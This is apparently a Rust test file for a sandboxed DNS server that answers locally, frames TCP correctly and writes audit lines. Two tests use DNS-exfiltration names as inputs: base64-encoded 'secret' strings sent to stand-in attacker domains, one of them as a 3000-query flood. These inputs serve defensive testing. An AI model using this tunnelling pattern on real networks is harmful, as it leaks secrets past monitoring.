//! The servers on real sockets (127.0.0.1 only, or inside a private network namespace):
//! replies, TCP framing and bounds, audit lines, fail-closed on a broken log.

use std::net::{Ipv4Addr, SocketAddr};
use std::path::Path;
use std::process::Command;
use std::time::Duration;

use airlock_audit::AuditLog;
use airlock_dns::{NameMap, TCP_IDLE_TIMEOUT, default_pool, serve_tcp, serve_udp};
use hickory_proto::op::{Message, Query, ResponseCode};
use hickory_proto::rr::rdata::A;
use hickory_proto::rr::{Name, RData, RecordType};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream, UdpSocket};
use tokio::time::timeout;

mod support;

const WAIT: Duration = Duration::from_secs(5);

fn query(id: u16, name: &str, record_type: RecordType) -> Vec<u8> {
    let mut message = Message::new();
    message
        .set_id(id)
        .set_recursion_desired(true)
        .add_query(Query::query(
            Name::from_ascii(name).expect("name"),
            record_type,
        ));
    message.to_vec().expect("encode")
}

fn address_of(reply: &Message) -> Option<Ipv4Addr> {
    match reply.answers() {
        [record] => match record.data() {
            RData::A(A(address)) => Some(*address),
            _ => None,
        },
        _ => None,
    }
}

async fn exchange_udp(client: &UdpSocket, to: SocketAddr, packet: &[u8]) -> Message {
    client.send_to(packet, to).await.expect("send");
    let mut buffer = [0_u8; 1500];
    let (len, from) = timeout(WAIT, client.recv_from(&mut buffer))
        .await
        .expect("a reply in time")
        .expect("recv");
    assert_eq!(from, to, "the reply comes from the address queried");
    Message::from_vec(&buffer[..len]).expect("reply parses")
}

fn audit_lines(path: &Path) -> Vec<serde_json::Value> {
    std::fs::read_to_string(path)
        .expect("read log")
        .lines()
        .map(|line| serde_json::from_str(line).expect("a JSON line"))
        .collect()
}

#[tokio::test]
async fn udp_queries_are_answered_locally_and_logged() {
    let directory = tempfile::tempdir().expect("tempdir");
    let log_path = directory.path().join("audit.jsonl");
    let audit = AuditLog::open(log_path.to_str().expect("utf-8 path")).expect("log");
    let map = NameMap::new(default_pool());
    let socket = UdpSocket::bind("127.0.0.1:0").await.expect("bind");
    let server_addr = socket.local_addr().expect("addr");
    let server = tokio::spawn(serve_udp(socket, map.clone(), audit.clone()));

    let client = UdpSocket::bind("127.0.0.1:0").await.expect("client");
    let first = exchange_udp(
        &client,
        server_addr,
        &query(1, "GitHub.com.", RecordType::A),
    )
    .await;
    assert_eq!(first.id(), 1);
    assert_eq!(first.response_code(), ResponseCode::NoError);
    let github = address_of(&first).expect("an A record");
    assert!(default_pool().contains(&github));
    let again = exchange_udp(&client, server_addr, &query(2, "github.com", RecordType::A)).await;
    assert_eq!(address_of(&again), Some(github));
    let other = exchange_udp(
        &client,
        server_addr,
        &query(3, "evil.example.", RecordType::A),
    )
    .await;
    let evil = address_of(&other).expect("an A record");
    assert_ne!(evil, github);
    let aaaa = exchange_udp(
        &client,
        server_addr,
        &query(4, "github.com.", RecordType::AAAA),
    )
    .await;
    assert_eq!(aaaa.id(), 4);
    assert_eq!(aaaa.response_code(), ResponseCode::NoError);
    assert!(aaaa.answers().is_empty());
    assert_eq!(aaaa.queries()[0].query_type(), RecordType::AAAA);
    let exfil_name = "dGhlLXNlY3JldA.chunk1.exfil.attacker.example.";
    let txt = exchange_udp(&client, server_addr, &query(5, exfil_name, RecordType::TXT)).await;
    assert!(txt.answers().is_empty());
    assert_eq!(map.name_for(github).as_deref(), Some("github.com"));
    assert_eq!(map.name_for(evil).as_deref(), Some("evil.example"));

    audit.flush();
    let lines = audit_lines(&log_path);
    let logged: Vec<(&str, &str, &str, &str)> = lines
        .iter()
        .map(|line| {
            (
                line["kind"].as_str().expect("kind"),
                line["decision"].as_str().expect("decision"),
                line["name"].as_str().expect("name"),
                line["qtype"].as_str().expect("qtype"),
            )
        })
        .collect();
    // The second, identical github.com query is folded: written last (when the log is
    // flushed) with `"count":1`.
    assert_eq!(lines[4]["count"], 1, "{lines:?}");
    assert!(lines[..4].iter().all(|line| line.get("count").is_none()));
    assert_eq!(
        logged,
        [
            ("dns", "allow", "github.com", "A"),
            ("dns", "allow", "evil.example", "A"),
            ("dns", "allow", "github.com", "AAAA"),
            (
                "dns",
                "allow",
                "dghllxnly3jlda.chunk1.exfil.attacker.example",
                "TXT"
            ),
            ("dns", "allow", "github.com", "A"),
        ]
    );
    assert!(
        lines
            .iter()
            .all(|line| line["ts"].as_str().is_some_and(|ts| ts.ends_with('Z')))
    );
    server.abort();
}

#[tokio::test]
async fn a_raw_query_from_python_gets_a_pool_address() {
    if Command::new("python3")
        .arg("-c")
        .arg("pass")
        .output()
        .is_err()
    {
        crate::support::skip_or_fail("needs python3 (Debian: `sudo apt-get install python3`)");
        return;
    }
    let map = NameMap::new(default_pool());
    let socket = UdpSocket::bind("127.0.0.1:0").await.expect("bind");
    let port = socket.local_addr().expect("addr").port();
    let server = tokio::spawn(serve_udp(socket, map.clone(), AuditLog::disabled()));
    // A query built byte by byte: id 0xbeef, RD, one question `Example.COM A IN`.
    let script = r#"
import socket, struct, sys
port = int(sys.argv[1])
def ask(qtype):
    question = b"".join(bytes([len(l)]) + l for l in [b"Example", b"COM"]) + b"\0"
    packet = struct.pack(">HHHHHH", 0xbeef, 0x0100, 1, 0, 0, 0) + question + struct.pack(">HH", qtype, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(5)
    s.sendto(packet, ("127.0.0.1", port))
    reply, _ = s.recvfrom(1500)
    ident, flags, qd, an, ns, ar = struct.unpack(">HHHHHH", reply[:12])
    assert reply[12:12 + len(question) + 4] == question + struct.pack(">HH", qtype, 1)
    address = socket.inet_ntoa(reply[-4:]) if an else "-"
    return "%x %d %d %d %s" % (ident, flags & 0x8000 != 0, flags & 0xf, an, address)
print(ask(1))
print(ask(28))
"#;
    let output = tokio::task::spawn_blocking(move || {
        Command::new("python3")
            .arg("-c")
            .arg(script)
            .arg(port.to_string())
            .output()
    })
    .await
    .expect("join")
    .expect("python3 runs");
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(
        output.status.success(),
        "python3 failed: {stdout}{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let expected_address = map.address_for("example.com");
    assert_eq!(
        stdout.lines().collect::<Vec<_>>(),
        [
            format!("beef 1 0 1 {expected_address}"),
            "beef 1 0 0 -".to_owned()
        ]
    );
    server.abort();
}

async fn read_framed(stream: &mut TcpStream) -> Message {
    let mut prefix = [0_u8; 2];
    timeout(WAIT, stream.read_exact(&mut prefix))
        .await
        .expect("in time")
        .expect("length");
    let mut reply = vec![0_u8; usize::from(u16::from_be_bytes(prefix))];
    timeout(WAIT, stream.read_exact(&mut reply))
        .await
        .expect("in time")
        .expect("body");
    Message::from_vec(&reply).expect("reply parses")
}

fn framed(packet: &[u8]) -> Vec<u8> {
    let mut out = u16::try_from(packet.len())
        .expect("short")
        .to_be_bytes()
        .to_vec();
    out.extend_from_slice(packet);
    out
}

async fn expect_closed(stream: &mut TcpStream) {
    let mut byte = [0_u8; 1];
    let read = timeout(WAIT, stream.read(&mut byte))
        .await
        .expect("closed in time");
    assert!(
        matches!(read, Ok(0) | Err(_)),
        "connection still open: {read:?}"
    );
}

#[tokio::test]
async fn tcp_queries_are_framed_and_bounded() {
    let map = NameMap::new(default_pool());
    let listener = TcpListener::bind("127.0.0.1:0").await.expect("bind");
    let server_addr = listener.local_addr().expect("addr");
    let server = tokio::spawn(serve_tcp(listener, map.clone(), AuditLog::disabled()));

    // Two pipelined queries in one write, the second split across writes.
    let mut stream = TcpStream::connect(server_addr).await.expect("connect");
    let mut both = framed(&query(21, "pypi.org.", RecordType::A));
    both.extend(framed(&query(22, "pypi.org.", RecordType::MX)));
    let (head, tail) = both.split_at(both.len() - 5);
    stream.write_all(head).await.expect("write");
    let first = read_framed(&mut stream).await;
    stream.write_all(tail).await.expect("write");
    let second = read_framed(&mut stream).await;
    assert_eq!(first.id(), 21);
    assert_eq!(address_of(&first), Some(map.address_for("pypi.org")));
    assert_eq!(second.id(), 22);
    assert_eq!(second.response_code(), ResponseCode::NoError);
    assert!(second.answers().is_empty());
    // The client closing its side ends the connection cleanly.
    stream.shutdown().await.expect("shutdown");
    expect_closed(&mut stream).await;

    // An over-long length prefix closes the connection without a reply.
    let mut stream = TcpStream::connect(server_addr).await.expect("connect");
    stream.write_all(&[0xff, 0xff]).await.expect("write");
    expect_closed(&mut stream).await;

    // A response message (no reply due) closes the connection.
    let mut stream = TcpStream::connect(server_addr).await.expect("connect");
    let mut response = query(23, "a.test.", RecordType::A);
    response[2] |= 0x80;
    stream.write_all(&framed(&response)).await.expect("write");
    expect_closed(&mut stream).await;

    // Malformed content gets FORMERR on TCP too.
    let mut stream = TcpStream::connect(server_addr).await.expect("connect");
    let truncated = [0x00, 0x18, 0x01, 0x00, 0x00, 0x01, 0, 0, 0, 0, 0, 0, 0x05];
    stream.write_all(&framed(&truncated)).await.expect("write");
    let reply = read_framed(&mut stream).await;
    assert_eq!(reply.id(), 0x18);
    assert_eq!(reply.response_code(), ResponseCode::FormErr);
    server.abort();
}

#[tokio::test]
async fn silent_tcp_connections_are_closed_after_the_idle_timeout() {
    let listener = TcpListener::bind("127.0.0.1:0").await.expect("bind");
    let server_addr = listener.local_addr().expect("addr");
    let map = NameMap::new(default_pool());
    let server = tokio::spawn(serve_tcp(listener, map, AuditLog::disabled()));
    let mut stream = TcpStream::connect(server_addr).await.expect("connect");
    // Half a length prefix, then silence.
    stream.write_all(&[0x00]).await.expect("write");
    let started = tokio::time::Instant::now();
    let mut byte = [0_u8; 1];
    let read = timeout(TCP_IDLE_TIMEOUT + WAIT, stream.read(&mut byte))
        .await
        .expect("closed before the test's own deadline");
    assert!(matches!(read, Ok(0) | Err(_)), "unexpected data: {read:?}");
    assert!(started.elapsed() >= TCP_IDLE_TIMEOUT - Duration::from_millis(100));
    server.abort();
}

#[tokio::test]
async fn a_flood_of_identical_queries_writes_a_few_lines() {
    let directory = tempfile::tempdir().expect("tempdir");
    let log_path = directory.path().join("audit.jsonl");
    let audit = AuditLog::open(log_path.to_str().expect("utf-8 path")).expect("log");
    let map = NameMap::new(default_pool());
    let socket = UdpSocket::bind("127.0.0.1:0").await.expect("bind");
    let server_addr = socket.local_addr().expect("addr");
    let server = tokio::spawn(serve_udp(socket, map, audit.clone()));
    let client = UdpSocket::bind("127.0.0.1:0").await.expect("client");
    let started = std::time::Instant::now();
    const QUERIES: u64 = 3000;
    for id in 0..QUERIES {
        let packet = query(id as u16, "c2VjcmV0.exfil.example.", RecordType::TXT);
        exchange_udp(&client, server_addr, &packet).await;
    }
    let seconds = started.elapsed().as_secs() + 1;
    audit.flush();
    let lines = audit_lines(&log_path);
    // Each second of the flood is at most two lines: the first query, then one with the
    // count of the rest. Every query is still accounted for.
    assert!(lines.len() as u64 <= 2 * seconds, "{} lines", lines.len());
    let total: u64 = lines
        .iter()
        .map(|line| line.get("count").map_or(1, |c| c.as_u64().expect("count")))
        .sum();
    assert_eq!(total, QUERIES);
    assert!(
        lines
            .iter()
            .all(|line| line["name"] == "c2vjcmv0.exfil.example")
    );
    server.abort();
}

#[tokio::test]
async fn queries_are_dropped_once_the_audit_log_fails() {
    if !Path::new("/dev/full").exists() {
        crate::support::skip_or_fail("no /dev/full to make the audit log fail (a Linux /dev)");
        return;
    }
    let audit = AuditLog::open("/dev/full").expect("log");
    let map = NameMap::new(default_pool());
    let socket = UdpSocket::bind("127.0.0.1:0").await.expect("bind");
    let server_addr = socket.local_addr().expect("addr");
    let server = tokio::spawn(serve_udp(socket, map, audit.clone()));
    let client = UdpSocket::bind("127.0.0.1:0").await.expect("client");
    // Answered while the log is healthy; writing its line fails.
    let first = exchange_udp(&client, server_addr, &query(1, "a.test.", RecordType::A)).await;
    assert_eq!(first.response_code(), ResponseCode::NoError);
    audit.flush();
    assert!(!audit.healthy());
    client
        .send_to(&query(2, "b.test.", RecordType::A), server_addr)
        .await
        .expect("send");
    let mut buffer = [0_u8; 512];
    let reply = timeout(Duration::from_millis(500), client.recv_from(&mut buffer)).await;
    assert!(reply.is_err(), "a query was answered without being logged");
    server.abort();
}

#[cfg(target_os = "linux")]
mod handed {
    //! `serve_handed_udp` on a packet-info socket, as `airlock-jail` hands it over.

    use std::os::fd::AsFd;

    use airlock_dns::serve_handed_udp;
    use nix::sys::socket::{setsockopt, sockopt};

    use super::*;

    /// Set in the environment of this test binary when re-run inside a private network
    /// namespace.
    const INSIDE: &str = "AIRLOCK_DNS_TEST_INSIDE_NETNS";

    fn packet_info_socket(bind: &str) -> std::net::UdpSocket {
        let socket = std::net::UdpSocket::bind(bind).expect("bind");
        setsockopt(&socket.as_fd(), sockopt::Ipv4PacketInfo, &true).expect("IP_PKTINFO");
        socket
    }

    /// Queries `targets` (all on the server's port) and checks each reply comes from the
    /// address that was queried.
    fn query_each(server: std::net::UdpSocket, targets: &[Ipv4Addr]) {
        let runtime = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .expect("runtime");
        runtime.block_on(async {
            let port = server.local_addr().expect("addr").port();
            let map = NameMap::new(default_pool());
            let serving = tokio::spawn(serve_handed_udp(server, map.clone(), AuditLog::disabled()));
            let client = UdpSocket::bind("127.0.0.1:0").await.expect("client");
            for (index, target) in targets.iter().enumerate() {
                let id = u16::try_from(index).expect("few");
                let to = SocketAddr::from((*target, port));
                let reply =
                    exchange_udp(&client, to, &query(id, "github.com.", RecordType::A)).await;
                assert_eq!(reply.id(), id);
                assert_eq!(address_of(&reply), Some(map.address_for("github.com")));
            }
            serving.abort();
        });
    }

    #[test]
    fn handed_socket_answers_on_loopback() {
        query_each(packet_info_socket("127.0.0.1:0"), &[Ipv4Addr::LOCALHOST]);
    }

    /// The jail's situation: a wildcard socket in a namespace where every address is local;
    /// a query to 8.8.8.8 must be answered from 8.8.8.8. Runs this binary again under
    /// `unshare -Urn` (a network namespace with nothing but `lo`, so nothing can leave).
    #[test]
    fn handed_socket_replies_from_the_original_destination() {
        if std::env::var_os(INSIDE).is_some() {
            query_each(
                packet_info_socket("0.0.0.0:0"),
                &[
                    Ipv4Addr::new(8, 8, 8, 8),
                    Ipv4Addr::new(203, 0, 113, 9),
                    Ipv4Addr::LOCALHOST,
                ],
            );
            return;
        }
        let probe = Command::new("unshare").args(["-Urn", "true"]).output();
        if !probe.as_ref().is_ok_and(|output| output.status.success()) {
            crate::support::skip_or_fail(&format!(
                "cannot create a user + network namespace here (needs `unshare` from \
                 util-linux and unprivileged user namespaces): {probe:?}"
            ));
            return;
        }
        let exe = std::env::current_exe().expect("test binary");
        let setup = "ip link set lo up && ip route add local 0.0.0.0/0 dev lo table local \
                     && exec \"$0\" \"$@\"";
        let output = Command::new("unshare")
            .args(["-Urn", "sh", "-c", setup])
            .arg(exe)
            .args([
                "--exact",
                "handed::handed_socket_replies_from_the_original_destination",
                "--nocapture",
            ])
            .env(INSIDE, "1")
            .output()
            .expect("unshare runs");
        let report = format!(
            "{}{}",
            String::from_utf8_lossy(&output.stdout),
            String::from_utf8_lossy(&output.stderr)
        );
        assert!(output.status.success(), "inside the namespace: {report}");
        assert!(
            report.contains("1 passed"),
            "the inner test did not run: {report}"
        );
    }
}
